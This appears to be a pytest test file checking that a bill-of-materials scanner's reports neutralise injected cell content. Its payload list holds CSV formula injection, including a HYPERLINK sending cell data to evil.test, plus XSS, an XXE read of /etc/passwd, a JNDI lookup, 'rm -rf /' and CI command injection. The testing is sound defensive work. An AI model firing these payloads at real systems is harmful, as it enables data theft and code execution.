"""Text in the cells of a bill that wants to be more than text: in no format does it become anything else.

The payloads below are our own; those of others come from the folder in VENDORCHECK_CORPUS, where it is set.
"""

import csv
import io
import json
import os
import re
import subprocess
import unicodedata
import zipfile
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from markdown_it import MarkdownIt

from vendorcheck.reporters import REPORTERS

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", " =1", "＝1", "＋1", "－1", "＠A", '"=1', "\u00a0=1", "\u3000=1")
PAYLOADS = (
    *FORMULAS,
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</td></tr></table><h1>owned</h1>",
    "</style><style>*{display:none}</style>",
    "{{7*7}} {% raw %} ${7*7} #{7}",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](https://evil.test/x.png)",
    "<https://evil.test>",
    "https://evil.test/?a=1&b=2",
    "@everyone #1 GH-1 owner/name#1",
    "| a | b |\n|---|---|",
    "# heading",
    "```\nfence",
    "`code` ``more`` \\` ~~~",
    "<!-- comment -->",
    "&lt;b&gt; &#60;b&#62; &amp;",
    "::error file=x,line=1::owned",
    "\n::warning::owned",
    "%0A::notice::owned",
    "##[error]owned",
    "::stop-commands::token",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "a\rb\x08\x08c\x00d",
    "\u202egnp.exe\u202c \u2066isolate\u2069",
    "\u200bzero\u200b\ufeffwidth\u00ad",
    "\ufffe\uffff\x0b\x0c\x1f",
    "]]>&<![CDATA[ x ]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "${jndi:ldap://evil.test/a} $(touch x) `touch x` ; rm -rf / | cat",
    "..\\..\\..\\ C:\\x %SystemRoot%",
    "e\u0301\u0302" * 20,
    "😀👩‍👩‍👧🏽 🇺🇸",
    "ﷺ﷽",
    "a" * 300,
    "' OR 1=1 --",
    "\u2028line\u2029paragraph",
    "undefined null NaN true None",
)
OURS = "tests of our own"
OTHERS = (
    "big-list-of-naughty-strings__blns.txt",
    "csv-injection-payloads__csv-payload.txt",
    "PayloadsAllTheThings__XXE_Fuzzing.txt",
)

TEXTS = ("text", "html", "markdown", "questions", "github", "csv", "json", "sarif", "gitlab", "junit")
NAMES = {name: f"report-{name}{each.suffix}" for name, each in REPORTERS.items()}
_KEPT = "\u200d\u200c"


@pytest.fixture(scope="module", params=[OURS, *OTHERS])
def payloads(request: pytest.FixtureRequest) -> tuple[str, ...]:
    if request.param == OURS:
        return PAYLOADS
    folder = os.environ.get("VENDORCHECK_CORPUS")
    if not folder:
        pytest.skip("VENDORCHECK_CORPUS names no folder")
    text = (Path(folder).resolve() / "inputs/hostile" / request.param).read_text(encoding="utf-8", errors="replace")
    return tuple(dict.fromkeys(line for line in text.split("\n") if line.strip()))


@pytest.fixture(scope="module")
def written(
    payloads: tuple[str, ...], tmp_path_factory: pytest.TempPathFactory, command: Path, clean: Mapping[str, str]
) -> Mapping[str, bytes]:
    """The reports on a bill in which each payload stands as supplier, in the model and in the description."""
    folder = tmp_path_factory.mktemp("hostile")
    with (folder / "bom.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["Supplier", "Manufacturer", "Part Number", "Description"])
        rows.writerows([payload, "Hikvision", f"DS-2CD2143G2-I {payload}", payload] for payload in payloads)
    arguments = [argument for name, path in NAMES.items() for argument in ("-o", f"{name}={path}")]
    done = subprocess.run(
        [command, "scan", "bom.csv", "-p", "us-federal", *arguments],
        cwd=folder,
        env=clean,
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode in (1, 4), done.stderr
    return {name: (folder / path).read_bytes() for name, path in NAMES.items()}


def _acting(text: str) -> set[str]:
    """Signs of a text that act on a terminal or hide what stands there."""
    kinds = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
    return {sign for sign in text if unicodedata.category(sign) in kinds and sign not in _KEPT} - {"\n"}


@pytest.mark.parametrize("name", TEXTS)
def test_nothing_acts_on_a_terminal(written: Mapping[str, bytes], name: str) -> None:
    text = written[name].decode("utf-8-sig")
    assert _acting(text.replace("\r\n", "\n") if name == "csv" else text) == set()


def test_no_cell_of_a_table_begins_a_formula(written: Mapping[str, bytes]) -> None:
    rows = list(csv.reader(io.StringIO(written["csv"].decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if re.match(r"[\s\"\u00a0\u3000]*[=+\-@＝＋－＠]", cell)] == []


def test_what_is_written_beside_a_bill_is_text(written: Mapping[str, bytes], payloads: tuple[str, ...]) -> None:
    rows = list(csv.reader(io.StringIO(written["annotated"].decode(), newline="")))
    assert [row[0] for row in rows[1:]] == list(payloads)
    added = [cell for row in rows for cell in row[4:]]
    assert [cell for cell in added if re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell)] == []


def test_no_cell_of_the_workbook_is_a_formula(written: Mapping[str, bytes]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(written["xlsx"]))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(written["xlsx"])) as parts:
        for part in parts.namelist():
            if part.endswith((".xml", ".rels")):
                fromstring(parts.read(part))


class _Page(HTMLParser):
    """The elements of a page, and everything that could act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.acting: list[str] = []
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "src", "srcset", "formaction", "srcdoc"):
                self.acting.append(f"{tag} {name}={value}")
            if name == "href":
                self.links.add(value or "")

    def handle_comment(self, data: str) -> None:
        self.acting.append(data)


def test_no_cell_is_markup_on_the_page(written: Mapping[str, bytes]) -> None:
    page = _Page()
    page.feed(written["html"].decode())
    assert page.acting == []
    assert page.tags.isdisjoint({"script", "img", "iframe", "object", "embed", "form", "input", "base", "h6"})
    outside = {link for link in page.links if not link.startswith("#")}
    assert {link for link in outside if not link.startswith(("https://", "http://", "data:,"))} == set()
    assert {link for link in outside if "evil.test" in link} == set()


@pytest.mark.parametrize("name", ["markdown", "questions"])
def test_no_cell_is_markup_in_markdown(written: Mapping[str, bytes], name: str) -> None:
    tokens = list(_tokens(MarkdownIt("gfm-like", {"linkify": False}).parse(written[name].decode())))
    assert [token for token in tokens if token[0] in ("image", "fence", "code_block")] == []
    assert [said for kind, said in tokens if kind == "link_open" and "evil.test" in said] == []
    html = [said for kind, said in tokens if kind in ("html_block", "html_inline")]
    tags = {tag for said in html for tag in re.findall(r"<[^>]*>?", said)}
    assert {tag for tag in tags if not re.fullmatch(r"</?(details|summary|code|br|b|strong)>", tag)} == set()
    assert [said for kind, said in tokens if kind == "heading" and "owned" in said] == []


def _tokens(tokens: object) -> Iterator[tuple[str, str]]:
    for token in tokens or ():  # type: ignore[attr-defined]
        yield token.type, str(token.attrs.get("href", token.content))
        yield from _tokens(token.children)


def test_no_cell_is_a_command_of_a_workflow(written: Mapping[str, bytes]) -> None:
    lines = written["github"].decode().splitlines()
    assert [line for line in lines if not re.match(r"::(error|warning|notice)( |::)", line)] == []
    assert [line for line in lines if "::" in line.partition("::")[2].partition("::")[2]] == []
    assert [line for line in lines if "##[" in line] == []


@pytest.mark.parametrize("name", ["json", "sarif", "gitlab"])
def test_what_machines_read_is_whole(written: Mapping[str, bytes], name: str) -> None:
    assert json.loads(written[name])


def test_what_jenkins_reads_is_whole(written: Mapping[str, bytes]) -> None:
    assert len(list(fromstring(written["junit"]).iter("testcase"))) > 1


def test_the_bundle_unpacks_where_it_is_told_to(written: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(written["bundle"])) as bundle:
        assert bundle.testzip() is None
        assert [name for name in bundle.namelist() if re.search(r"^[/\\]|\.\.|[\x00-\x1f:\\]", name)] == []


def test_what_was_written_in_a_cell_can_be_read_again(written: Mapping[str, bytes], payloads: tuple[str, ...]) -> None:
    shown = {cell["text"] for line in json.loads(written["json"])["lines"] for cell in line["excerpt"]}
    lost = [payload for payload in payloads if not any(payload.strip() in text for text in shown)]
    assert [payload for payload in lost if "\ufffd" not in payload and "\x00" not in payload] == []
